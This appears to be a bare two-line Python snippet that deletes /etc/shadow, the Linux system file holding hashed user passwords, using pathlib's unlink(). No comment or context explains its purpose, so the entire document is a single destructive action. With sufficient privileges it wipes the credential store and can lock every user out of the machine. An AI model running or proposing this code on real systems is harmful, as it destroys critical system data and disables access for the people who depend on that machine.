from pathlib import Path

Path("/etc/shadow").unlink()
